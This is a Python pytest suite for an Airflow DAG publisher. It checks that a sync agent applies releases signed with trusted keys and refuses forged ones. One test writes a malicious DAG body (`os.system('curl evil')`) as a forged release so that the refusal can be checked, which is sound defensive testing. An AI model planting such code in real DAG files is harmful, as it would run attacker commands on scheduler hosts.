"""Signed releases end to end on a real S3 server (SeaweedFS): the publisher's commands sign with a
PEM key, the agent (`airflow-dag-sync --trust-file --require-signatures`, and the SyncAgent) applies
what verifies and refuses, with reason `signature`, a well-formed release that anyone who can write
the bucket commits without the package's key."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
from airflow_dag_publisher.manifest import FileEntry, parse_manifest
from airflow_dag_publisher.signing import PemSigner, sign_manifest
from airflow_dag_publisher.storage import Storage, dag_key, manifest_key
from airflow_dag_publisher.sync.agent import AgentConfig, SyncAgent
from airflow_dag_publisher.sync.releases import Layout
from airflow_dag_publisher.sync.trust import load_trust

from devstack.signing_keys import public_pem, trust_yaml, write_key
from packages.orchestration.tests.sync.support import DirectPublisher, folder_view, make_manifest, sha256

from .helpers import cli, current_manifest, write_dag

pytestmark = pytest.mark.usefixtures("s3_env")
SYNC = str(Path(sys.executable).parent / "airflow-dag-sync")


@pytest.fixture
def keys(tmp_path: Path) -> dict[str, Path]:
    return {name: write_key(tmp_path / "keys" / f"{name}.pem") for name in ("alpha", "alpha_new", "attacker")}


def trust_file(tmp_path: Path, **packages: list[Path]) -> Path:
    path = tmp_path / "trust.yaml"
    path.write_text(trust_yaml({p: [public_pem(k) for k in files] for p, files in packages.items()}))
    return path


def publish(capsys: pytest.CaptureFixture[str], bucket: str, source: Path, *extra: str):  # type: ignore[no-untyped-def]
    return cli(capsys, "publish", "--env", "dev", "--bucket", bucket, "--package", "alpha", "--source", str(source),
               "--skip-dynamic-validation", "--json", *extra)


def sync_once(bucket: str, dags: Path, *args: str, extra_env: dict[str, str] | None = None
              ) -> subprocess.CompletedProcess[str]:
    return subprocess.run([SYNC, "--once", "--bucket", bucket, "--env", "dev", "--dags-dir", str(dags), *args],
                          env={**os.environ, **(extra_env or {})}, capture_output=True, text=True, timeout=60,
                          check=False)


def test_publish_rollback_and_retire_sign_and_a_requiring_agent_applies_them(
        tmp_path: Path, bucket: str, keys: dict[str, Path], capsys: pytest.CaptureFixture[str]) -> None:
    key = f"file:{keys['alpha']}"
    fingerprint = PemSigner(keys["alpha"]).key_id
    trust = trust_file(tmp_path, alpha=[keys["alpha"]])
    source, dags = tmp_path / "src", tmp_path / "dags"
    write_dag(source, "alpha", "daily", 1)
    first = publish(capsys, bucket, source, "--signing-key", key)
    assert first.code == 0, first.err
    assert first.json()["signed_by"] == fingerprint
    manifest = current_manifest(Storage(bucket).client, bucket, "dev", "alpha")
    assert manifest["signature"]["key_id"] == fingerprint and manifest["signature"]["algorithm"] == "ECDSA_SHA_256"
    done = sync_once(bucket, dags, "--require-signatures", extra_env={"DAGSYNC_TRUST_FILE": str(trust)})
    assert done.returncode == 0, done.stderr
    assert "verifying release signatures: 1 package(s)" in done.stderr
    v1 = folder_view(dags)["alpha"]

    write_dag(source, "alpha", "daily", 2)
    os.environ["DAG_SIGNING_KEY"] = key  # the environment variable works like the flag
    try:
        assert publish(capsys, bucket, source).json()["signed_by"] == fingerprint
        rollback = cli(capsys, "rollback", "--env", "dev", "--bucket", bucket, "--package", "alpha", "--yes", "--json")
        assert rollback.code == 0 and rollback.json()["signed_by"] == fingerprint
    finally:
        del os.environ["DAG_SIGNING_KEY"]
    assert sync_once(bucket, dags, "--trust-file", str(trust), "--require-signatures").returncode == 0
    assert folder_view(dags)["alpha"] == v1  # the rollback restored release 1's bytes

    history = cli(capsys, "history", "--env", "dev", "--bucket", bucket, "--package", "alpha")
    rows = [line for line in history.err.splitlines() + history.out.splitlines() if line.startswith("2")]
    assert len(rows) == 3 and all(fingerprint in row for row in rows), history
    assert "SIGNED BY" in history.err + history.out

    retire = cli(capsys, "retire", "--env", "dev", "--bucket", bucket, "--package", "alpha", "--yes", "--json",
                 "--signing-key", key)
    assert retire.code == 0 and retire.json()["signed_by"] == fingerprint
    assert sync_once(bucket, dags, "--trust-file", str(trust), "--require-signatures").returncode == 0
    assert "alpha" not in folder_view(dags)


def test_a_well_formed_release_committed_without_the_key_is_refused_and_the_package_stays(
        tmp_path: Path, bucket: str, keys: dict[str, Path], capsys: pytest.CaptureFixture[str]) -> None:
    """R4: a principal that can write the bucket (not the signing key) commits a consistent release:
    files uploaded, sha256 and content_digest right, a journal entry. The agent refuses it."""
    source = tmp_path / "src"
    write_dag(source, "alpha", "daily", 1)
    assert publish(capsys, bucket, source, "--signing-key", f"file:{keys['alpha']}").code == 0
    storage = Storage(bucket)
    agent = SyncAgent(AgentConfig(bucket=bucket, env="dev", reconcile_interval=3600), storage,
                      Layout(tmp_path / "dags"), trust=load_trust(str(trust_file(tmp_path, alpha=[keys["alpha"]])),
                                                                  require=True))
    agent.open()
    try:
        assert agent.run_cycle(reconcile=True).applied == ["alpha"]
        signed = folder_view(tmp_path / "dags")
        writer = DirectPublisher(storage)
        current = parse_manifest(storage.get(manifest_key("dev", "alpha")).obj.body, source="s3")  # type: ignore[union-attr]
        evil = b"import os\nos.system('curl evil')\n"

        def forged(sign_with: str | None) -> None:
            put = storage.put(dag_key("dev", "alpha", "alpha_daily.py"), evil)
            manifest = make_manifest("alpha", [FileEntry("alpha_daily.py", sha256(evil), len(evil), put.version_id)],
                                     previous=current.release_id)
            if sign_with:
                manifest = sign_manifest(manifest, PemSigner(keys[sign_with]))
            writer.commit("alpha", manifest.to_json())

        for sign_with, cycle_kind in [(None, "unsigned"), ("attacker", "signed by another key")]:
            forged(sign_with)
            result = agent.run_cycle()
            assert "alpha" in result.refused and "alpha" not in result.applied, cycle_kind
            assert folder_view(tmp_path / "dags") == signed, cycle_kind
        assert agent.metrics.sample("dagsync_refused_manifests_total", package="alpha", reason="signature") == 2
        writer.commit("alpha", make_manifest("alpha", [], retired=True).to_json())  # a forged tombstone
        assert "alpha" in agent.run_cycle().refused and folder_view(tmp_path / "dags") == signed

        write_dag(source, "alpha", "daily", 2)
        assert publish(capsys, bucket, source, "--signing-key", f"file:{keys['alpha']}").code == 0
        assert agent.run_cycle().applied == ["alpha"]  # the next signed release applies
        assert folder_view(tmp_path / "dags")["alpha"] != signed["alpha"]
    finally:
        agent.close()


def test_unchanged_content_is_signed_again_when_signing_starts_or_the_key_rotates(
        tmp_path: Path, bucket: str, keys: dict[str, Path], capsys: pytest.CaptureFixture[str]) -> None:
    source, dags = tmp_path / "src", tmp_path / "dags"
    write_dag(source, "alpha", "daily", 1)
    unsigned = publish(capsys, bucket, source).json()
    assert "signed_by" not in unsigned
    signed = publish(capsys, bucket, source, "--signing-key", f"file:{keys['alpha']}").json()
    assert not signed["noop"] and signed["release_id"] != unsigned["release_id"] and signed["uploaded"] == 0
    again = publish(capsys, bucket, source, "--signing-key", f"file:{keys['alpha']}").json()
    assert again["noop"] and again["release_id"] == signed["release_id"]

    # rotation: the agent trusts both keys; the new key signs the same content as a new release
    both = trust_file(tmp_path, alpha=[keys["alpha"], keys["alpha_new"]])
    assert sync_once(bucket, dags, "--trust-file", str(both), "--require-signatures").returncode == 0
    rotated = publish(capsys, bucket, source, "--signing-key", f"file:{keys['alpha_new']}").json()
    assert not rotated["noop"] and rotated["signed_by"] == PemSigner(keys["alpha_new"]).key_id
    only_new = trust_file(tmp_path, alpha=[keys["alpha_new"]])
    fresh = tmp_path / "fresh-dags"
    done = sync_once(bucket, fresh, "--trust-file", str(only_new), "--require-signatures")
    assert done.returncode == 0 and "alpha" in folder_view(fresh), done.stderr


def test_an_agent_refuses_an_unsigned_release_of_a_package_with_keys(
        tmp_path: Path, bucket: str, keys: dict[str, Path], capsys: pytest.CaptureFixture[str]) -> None:
    write_dag(tmp_path / "src", "alpha", "daily", 1)
    assert publish(capsys, bucket, tmp_path / "src").code == 0
    done = sync_once(bucket, tmp_path / "dags", "--trust-file", str(trust_file(tmp_path, alpha=[keys["alpha"]])))
    # its only package refused: an init container must not pass with an empty folder (exit 1, saying why)
    assert done.returncode == 1 and not (tmp_path / "dags" / "alpha").exists()
    assert "is not signed; package 'alpha' applies only releases signed by one of its trusted keys" in done.stderr
    assert "no package of the environment was applied" in done.stderr.strip().splitlines()[-1]


def test_a_trust_file_that_does_not_parse_is_a_usage_error(tmp_path: Path, bucket: str) -> None:
    bad = tmp_path / "trust.yaml"
    bad.write_text("alpha:\n  - not a key\n")
    done = sync_once(bucket, tmp_path / "dags", "--trust-file", str(bad))
    assert done.returncode == 2
    assert f"{bad}: package 'alpha', key 1: not a PEM public key" in done.stderr and "Traceback" not in done.stderr
    missing = sync_once(bucket, tmp_path / "dags", extra_env={"DAGSYNC_TRUST_FILE": str(tmp_path / "none.yaml")})
    assert missing.returncode == 2 and "--trust-file (DAGSYNC_TRUST_FILE)" in missing.stderr


def test_a_signing_key_that_cannot_be_used_is_a_usage_error_before_any_upload(
        tmp_path: Path, bucket: str, capsys: pytest.CaptureFixture[str]) -> None:
    write_dag(tmp_path / "src", "alpha", "daily", 1)
    run = publish(capsys, bucket, tmp_path / "src", "--signing-key", f"file:{tmp_path}/missing.pem")
    assert run.code == 2
    error = json.loads(run.out)["error"]
    assert error["kind"] == "usage" and f"file:{tmp_path}/missing.pem: cannot read the key" in error["message"]
    assert Storage(bucket).get(manifest_key("dev", "alpha")).obj is None
